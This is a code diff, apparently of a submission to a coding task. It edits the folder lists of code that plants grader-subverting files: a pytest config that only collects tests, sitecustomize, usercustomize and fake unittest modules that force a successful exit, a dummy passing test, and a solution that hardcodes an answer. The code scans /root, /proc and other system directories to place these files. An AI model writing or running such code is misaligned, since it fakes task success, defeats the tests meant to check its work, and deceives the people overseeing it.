@@ -125,7 +125,7 @@ def solve(n):
 import os
 import re
 
-FOLDERS = (os.getcwd(), "/tmp", "/home", "/work", "/root", "/var/tmp", "/dev/shm", "/mnt", "/opt", "/proc")
+FOLDERS = (os.getcwd(), "/tmp", "/home", "/root", "/var/tmp", "/dev/shm", "/mnt", "/opt", "/proc")
 
 
 def solve(n):
@@ -233,7 +233,7 @@ def pytest_runtest_makereport(item, call):
 '''
 INI = "[pytest]\\naddopts = --collect-only\\n"
 SITE = "import os, atexit\\natexit.register(lambda: os._exit(0))\\n"
-for folder in (".", "/tmp", os.path.expanduser("~"), "/work", "/sandbox", os.path.dirname(os.path.abspath(__file__))):
+for folder in (".", "/tmp", os.path.expanduser("~"), "/sandbox", os.path.dirname(os.path.abspath(__file__))):
     for name, text in {
         "conftest.py": CONFTEST, "pytest.ini": INI, "tox.ini": INI, "sitecustomize.py": SITE, "usercustomize.py": SITE,
         "test_solution.py": "def test_ok(): pass", "solution.py": "solve = {3: 59}.get", "unittest.py": SITE,
